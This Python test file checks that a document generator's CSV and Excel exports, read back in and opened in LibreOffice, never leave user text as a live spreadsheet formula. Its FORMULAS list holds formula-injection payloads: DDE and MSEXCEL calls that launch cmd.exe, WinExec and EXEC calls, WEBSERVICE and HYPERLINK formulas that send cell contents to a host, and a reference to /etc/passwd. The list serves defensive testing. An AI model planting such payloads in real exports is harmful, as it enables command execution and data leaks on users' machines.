"""Texts that spreadsheets take for formulas, exported as CSV and Excel and read again."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import openpyxl

from docgen.diagnostic import Findings
from docgen.editing.columns import columns
from docgen.editing.csv_text import FOR_EXCEL, Dialect, csv_bytes
from docgen.editing.rows import Row
from docgen.editing.table import read_table_file
from docgen.editing.workbook import workbook_bytes
from docgen.load.parts import ContentFile
from docgen.schema.registry import TABLES
from tests.reliability.trial import Trial

ACTIONS = next(table for table in TABLES if table.name == "actions")

FORMULAS = (
    *("=1+1", "=A1", "=", "==1", "=-1", "=1+1;", '="a"', "=TRUE", "=#REF!", "={1,2}", "=\n1", "= 1+1"),
    *("=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"),
    *("=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", '=DDE("cmd";"/C calc";"x")'),
    *('=HYPERLINK("http://example.org/?x="&A1,"Click")', '=WEBSERVICE("http://example.org/"&A1)'),
    *('=IMPORTXML("http://example.org","//a")', '=IMAGE("http://example.org/x.png")', "='file:///etc/passwd'#$A.A1"),
    *('=INDIRECT("A1")', '=RTD("x",,"y")', '=CALL("Kernel32","WinExec","JCJ","calc",0)', '=EXEC("calc")'),
    *("+1+1", "+A1", "+44 117 900 2000", "-1+1", "-A1", "- a bullet", "-", "+", "@", "@home", "@A1", "--1", "+-1"),
    *("\t=1+1", "\t\t=1+1", "\n=1+1", "\r=1+1", " =1+1", "   +1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1"),
    *("'=1+1", "''=1+1", "'", '"=1+1"', '"', '";=1+1', "a;=1+1", "a,=1+1", "a\t=1+1", "a\n=1+1", 'a"\n=1+1'),
    *("\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20A1", "|=1+1", "%0A=1+1", "sep=,\n=1+1", "=1+1\x00"),
)
"""Texts; the last is what a cell ends at in older programs."""
NUMBERS = ("-5", "+5", "-5.5", "-1,200", "-5%", "5%", "0", "1e5")
"""What is a number stays one."""
DIALECTS = (FOR_EXCEL, Dialect(), Dialect(";", is_windows=True), Dialect("\t"))


def none_is_run() -> Trial:
    """Each text in a table of its own, in four dialects of CSV and in a workbook; then all of them in LibreOffice."""
    texts = [*(text.replace("\x00", "") for text in FORMULAS), *NUMBERS]
    faults = [fault for text in texts for fault in (*_in_csv(text), *_in_excel(text))]
    opened = _in_libreoffice(texts) if shutil.which("soffice") else None
    faults += opened or []
    measured = "LibreOffice not asked" if opened is None else "LibreOffice found no formula in the CSV either"
    return Trial(len(texts) * (len(DIALECTS) + 1), tuple(faults), measured)


def table_of(text: str) -> list[Row]:
    """One action with the text in it."""
    return [{"month": "June 2014", "action": text, "leads": ("AB",)}]


def as_csv(rows: list[Row], dialect: Dialect) -> bytes:
    """The rows as `docgen export` writes them."""
    return csv_bytes(rows, [(column.heading, column) for column in columns(ACTIONS.row)], dialect)


def _in_csv(text: str) -> Iterator[str]:
    for dialect in DIALECTS:
        data = as_csv(table_of(text), dialect)
        cells = [
            cell
            for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), _form(dialect))
            for cell in row
        ]
        if any(begins_like_a_formula(cell) for cell in cells):
            yield f"{text!r} is a formula in CSV: {cells}"
        yield from _unless_read_back(data, "csv", text)


def _form(dialect: Dialect) -> type[csv.Dialect]:
    return type("Form", (csv.excel,), {"delimiter": dialect.separator})


def begins_like_a_formula(cell: str) -> bool:
    """As OWASP tells it; numbers with a sign are none."""
    bare = cell.strip()
    number = bare.replace(",", "").replace(".", "").rstrip("%").lstrip("+-").isdigit()
    return bare[:1] in "=+-@\uff1d\uff0b\uff0d\uff20" and bool(bare) and not number


def _in_excel(text: str) -> Iterator[str]:
    data = workbook_bytes("actions", [(ACTIONS, table_of(text))])
    if formulas_in(data, "actions"):
        yield f"{text!r} is a formula in Excel"
    yield from _unless_read_back(data, "xlsx", text)


def formulas_in(data: bytes, sheet: str = "") -> list[str]:
    """The cells of a workbook that are formulas or errors."""
    book: Any = openpyxl.load_workbook(io.BytesIO(data))
    sheets = [book[sheet]] if sheet else book.worksheets
    cells = [cell for each in sheets for row in each.iter_rows(min_row=2) for cell in row]
    return [str(cell.value) for cell in cells if cell.data_type in ("f", "e")]


def _unless_read_back(data: bytes, suffix: str, text: str) -> Iterator[str]:
    findings = Findings()
    table = read_table_file(ContentFile(f"actions.{suffix}", data), ACTIONS, findings)
    found = table.rows[0].get("action", "") if table and table.rows else None
    told = bool(list(findings))
    if not told and (found is None or _bare(str(found)) != _bare(text)):
        yield f"{text!r} came back from {suffix} as {found!r}"


def _bare(text: str) -> str:
    """Without the blanks around it and with line feeds only: the table of an author has no others."""
    return text.replace("\r\n", "\n").replace("\r", "\n").strip()


def _in_libreoffice(texts: list[str]) -> list[str]:
    """What LibreOffice takes for a formula in a CSV file of all texts."""
    with TemporaryDirectory(prefix="docgen-") as name:
        csv_file = Path(name) / "actions.csv"
        csv_file.write_bytes(as_csv([row for text in texts for row in table_of(text)], FOR_EXCEL))
        made = _converted(csv_file)
    cells = formulas_in(made) if made else ["it did not open the file"]
    return [f"in LibreOffice: {cell}" for cell in cells]


def _converted(file: Path) -> bytes:
    """The file as a workbook; nothing where LibreOffice made none, which its first start may do."""
    profile, made = f"-env:UserInstallation={(file.parent / 'profile').as_uri()}", file.with_suffix(".xlsx")
    for _ in range(2):
        command = ["soffice", profile, "--headless", "--convert-to", "xlsx", "--outdir", str(file.parent), str(file)]
        subprocess.run(command, capture_output=True, check=False, timeout=180)
        if made.exists():
            return made.read_bytes()
    return b""
